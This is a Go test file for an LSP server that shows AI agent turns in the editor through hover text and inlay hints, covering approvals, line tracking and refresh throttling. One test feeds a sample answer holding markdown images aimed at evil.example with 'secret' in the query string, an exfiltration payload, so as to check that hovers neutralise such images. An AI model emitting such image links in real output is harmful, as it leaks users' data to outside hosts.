package lsp_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"go.lsp.dev/protocol"
	"go.lsp.dev/uri"

	"github.com/hermes-lsp/hermes-lsp/codex"
	"github.com/hermes-lsp/hermes-lsp/codex/codextest"
	"github.com/hermes-lsp/hermes-lsp/lsp/lsptest"
)

// hoverText hovers line of path and returns the markdown, or "" for a null hover.
func hoverText(t *testing.T, ed *lsptest.Editor, path string, line uint32) string {
	t.Helper()
	var res *struct {
		Contents struct {
			Kind  string `json:"kind"`
			Value string `json:"value"`
		} `json:"contents"`
	}
	err := ed.Call(testCtx(t), "textDocument/hover", map[string]any{
		"textDocument": map[string]any{"uri": uri.File(path)},
		"position":     protocol.Position{Line: line, Character: 3},
	}, &res)
	if err != nil {
		t.Fatalf("hover: %v", err)
	}
	if res == nil {
		return ""
	}
	if res.Contents.Kind != "markdown" {
		t.Errorf("hover kind %q", res.Contents.Kind)
	}
	return res.Contents.Value
}

// inlayLabels asks for the inlay hints of path's first 100 lines: line → label.
func inlayLabels(t *testing.T, ed *lsptest.Editor, path string) map[uint32]string {
	t.Helper()
	var hints []struct {
		Position protocol.Position `json:"position"`
		Label    string            `json:"label"`
	}
	err := ed.Call(testCtx(t), "textDocument/inlayHint", map[string]any{
		"textDocument": map[string]any{"uri": uri.File(path)},
		"range":        protocol.Range{End: protocol.Position{Line: 100}},
	}, &hints)
	if err != nil {
		t.Fatalf("inlayHint: %v", err)
	}
	out := make(map[uint32]string)
	for _, h := range hints {
		out[h.Position.Line] = h.Label
	}
	return out
}

// TestTurnShowsOnItsLine: a turn run from a `hermes:` line shows there. While it waits for an
// approval, hover and the inlay hint say so; lines inserted above move it; once it is done, hover
// has the whole answer, the tools with their exit status and the tokens, and the final message
// points at the line.
func TestTurnShowsOnItsLine(t *testing.T) {
	held := make(chan struct{})
	hook := allowOnceWhen(held)
	f := start(t, lsptest.VSCode, nil, lsptest.WithShowMessageRequestHook(hook))
	ctx := testCtx(t)
	text := "package calc\n\n// hermes: add a Sum function\n"
	path := f.file("calc.go", text)
	if err := f.ed.OpenFile(ctx, path, text); err != nil {
		t.Fatal(err)
	}
	f.fake.OnTurn(func(ft *codextest.FakeTurn) {
		ft.Usage(codex.TokenUsage{InputTokens: 5000, OutputTokens: 1000, TotalTokens: 6000}, codex.TokenUsage{InputTokens: 5000, OutputTokens: 1000, TotalTokens: 6000}, 100000)
		if d, err := ft.ExecWithApproval("go test ./...", 0, "ok\n"); err != nil || d != codex.DecisionAccept {
			t.Errorf("approval: %q %v", d, err)
		}
		ft.AgentMessage("Added `Sum`.\n\nIt loops from 1 to n.")
		ft.Complete(codex.TurnCompleted, nil)
	})
	rng := protocol.Range{Start: protocol.Position{Line: 2}, End: protocol.Position{Line: 2, Character: 3}}
	f.ask(ctx, map[string]any{"prompt": "add a Sum function", "uri": string(uri.File(path)), "range": rng})

	// The approval is asked (its turn event goes out once the turn's record has it).
	if err := f.ed.Await(ctx, turnEventOf("approvalWaiting")); err != nil {
		t.Fatal(err)
	}
	if h := hoverText(t, f.ed, path, 2); !strings.Contains(h, "`go test ./...`") || !strings.Contains(h, "> add a Sum function") {
		t.Errorf("hover while waiting:\n%s", h)
	}
	if got := inlayLabels(t, f.ed, path); got[2] != "⏸ approval" {
		t.Errorf("inlay hints while waiting: %v", got)
	}
	if h := hoverText(t, f.ed, path, 0); h != "" {
		t.Errorf("hover on another line: %q", h)
	}
	// Two lines typed above: the turn moves with its line.
	if err := f.ed.ChangeFile(ctx, path, protocol.TextDocumentContentChangeEvent{
		Range: protocol.Range{Start: protocol.Position{Line: 1}, End: protocol.Position{Line: 1}}, Text: "// a\n// b\n",
	}); err != nil {
		t.Fatal(err)
	}
	if h := hoverText(t, f.ed, path, 4); !strings.Contains(h, "waiting for approval") {
		t.Errorf("hover on the moved line:\n%s", h)
	}
	close(held)
	f.awaitEnd(ctx)

	h := hoverText(t, f.ed, path, 4)
	for _, want := range []string{"**Hermes** · done", "Added `Sum`.\n\nIt loops from 1 to n.", "`go test ./...` ✓ exit 0", "6.0k tokens · 5% context", "✓ allowed once by you: `go test ./...`", "Transcript: "} {
		if !strings.Contains(h, want) {
			t.Errorf("hover after the turn lacks %q:\n%s", want, h)
		}
	}
	if got := inlayLabels(t, f.ed, path); got[4] != "✓ done · 1 tool · 6.0k tok" || len(got) != 1 {
		t.Errorf("inlay hints after the turn: %v", got)
	}
	msgs := f.ed.State().ShowMessages
	if last := msgs[len(msgs)-1].Message; !strings.Contains(last, "The whole answer: hover line 5 of calc.go, or read the transcript") {
		t.Errorf("final message: %q", last)
	}
	// The editor was asked to refresh its inlay hints as the state changed, at most twice a second.
	if n := len(f.ed.State().Requests["workspace/inlayHint/refresh"]); n == 0 {
		t.Errorf("no workspace/inlayHint/refresh")
	}

	// Deleting the line drops the turn from it.
	if err := f.ed.ChangeFile(ctx, path, protocol.TextDocumentContentChangeEvent{
		Range: protocol.Range{Start: protocol.Position{Line: 4}, End: protocol.Position{Line: 5}}, Text: "",
	}); err != nil {
		t.Fatal(err)
	}
	for line := uint32(0); line < 5; line++ {
		if h := hoverText(t, f.ed, path, line); h != "" {
			t.Errorf("hover on line %d after the origin was deleted: %q", line, h)
		}
	}
}

// TestInlineStatusOff: with inlineStatus false there are no inlay hints; hover stays.
func TestInlineStatusOff(t *testing.T) {
	f := start(t, lsptest.VSCode, map[string]any{"inlineStatus": false, "yolo": true})
	ctx := testCtx(t)
	path := f.file("a.go", "// hermes: hi\n")
	if err := f.ed.OpenFile(ctx, path, "// hermes: hi\n"); err != nil {
		t.Fatal(err)
	}
	f.fake.OnTurn(func(ft *codextest.FakeTurn) {
		ft.AgentMessage("hello")
		ft.Complete(codex.TurnCompleted, nil)
	})
	f.ask(ctx, map[string]any{"prompt": "hi", "uri": string(uri.File(path)), "range": protocol.Range{}})
	f.awaitEnd(ctx)
	if got := inlayLabels(t, f.ed, path); len(got) != 0 {
		t.Errorf("inlay hints with inlineStatus false: %v", got)
	}
	if h := hoverText(t, f.ed, path, 0); !strings.Contains(h, "hello") {
		t.Errorf("hover: %q", h)
	}
}

// TestHoverFetchesNoImages: the model's images (inline, reference-style, a badge in a link) reach
// the hover as links, never as markdown images an editor would fetch as it shows the hover.
func TestHoverFetchesNoImages(t *testing.T) {
	f := start(t, lsptest.VSCode, map[string]any{"yolo": true})
	ctx := testCtx(t)
	path := f.file("a.go", "// hermes: hi\n")
	if err := f.ed.OpenFile(ctx, path, "// hermes: hi\n"); err != nil {
		t.Fatal(err)
	}
	answer := "Look: ![the secret](https://evil.example/?q=secret) ![ref][r] [![badge](https://evil.example/b.svg)](https://example.com)\n\n[r]: https://evil.example/ref?q=secret"
	f.fake.OnTurn(func(ft *codextest.FakeTurn) {
		ft.AgentMessage(answer)
		ft.Complete(codex.TurnCompleted, nil)
	})
	f.ask(ctx, map[string]any{"prompt": "hi", "uri": string(uri.File(path)), "range": protocol.Range{}})
	f.awaitEnd(ctx)
	h := hoverText(t, f.ed, path, 0)
	if strings.Contains(h, "![") {
		t.Errorf("hover holds a markdown image:\n%s", h)
	}
	for _, want := range []string{"!\u200b[the secret](https://evil.example/?q=secret)", "!\u200b[ref][r]", "[!\u200b[badge](https://evil.example/b.svg)](https://example.com)"} {
		if !strings.Contains(h, want) {
			t.Errorf("hover lacks %q:\n%s", want, h)
		}
	}
}

// turnEventOf holds once a hermes/turnEvent of kind has arrived.
func turnEventOf(kind string) lsptest.Condition { return turnEventsOf(kind, 1) }

// TestInlayRefreshIsThrottled: a turn whose state changes many times makes the server ask for
// inlay hints again at most twice a second (and at least once).
func TestInlayRefreshIsThrottled(t *testing.T) {
	f := start(t, lsptest.VSCode, map[string]any{"yolo": true})
	ctx := testCtx(t)
	path := f.file("a.go", "// hermes: busy\n")
	if err := f.ed.OpenFile(ctx, path, "// hermes: busy\n"); err != nil {
		t.Fatal(err)
	}
	f.fake.OnTurn(func(ft *codextest.FakeTurn) {
		for i := range 40 {
			ft.Exec(fmt.Sprintf("step %d", i), 0, "")
		}
		ft.AgentMessage("done")
		ft.Complete(codex.TurnCompleted, nil)
	})
	began := time.Now()
	f.ask(ctx, map[string]any{"prompt": "busy", "uri": string(uri.File(path)), "range": protocol.Range{}})
	f.awaitEnd(ctx)
	// The last state is never lost: a refresh follows the end.
	if err := f.ed.Await(ctx, lsptest.RequestCount("workspace/inlayHint/refresh", 1)); err != nil {
		t.Fatal(err)
	}
	elapsed := time.Since(began)
	n := len(f.ed.State().Requests["workspace/inlayHint/refresh"])
	if most := int(elapsed/(500*time.Millisecond)) + 2; n > most {
		t.Errorf("%d refreshes in %v: more than twice a second", n, elapsed)
	}
	if got := inlayLabels(t, f.ed, path); got[0] != "✓ done · 40 tools" {
		t.Errorf("inlay hints after the turn: %v", got)
	}
}

// allowOnceWhen is an approval hook that answers "Allow once" once held is closed.
func allowOnceWhen(held <-chan struct{}) lsptest.ShowMessageRequestHook {
	return func(ctx context.Context, p protocol.ShowMessageRequestParams) (*protocol.MessageActionItem, error) {
		select {
		case <-held:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
		return &p.Actions[1], nil // Allow once
	}
}

// turnEventsOf holds once n hermes/turnEvent notifications of kind have arrived.
func turnEventsOf(kind string, n int) lsptest.Condition {
	return func(s *lsptest.State) bool {
		count := 0
		for _, raw := range s.Notifications["hermes/turnEvent"] {
			var ev struct {
				Event struct {
					Kind string `json:"kind"`
				} `json:"event"`
			}
			if json.Unmarshal(raw, &ev) == nil && ev.Event.Kind == kind {
				count++
			}
		}
		return count >= n
	}
}
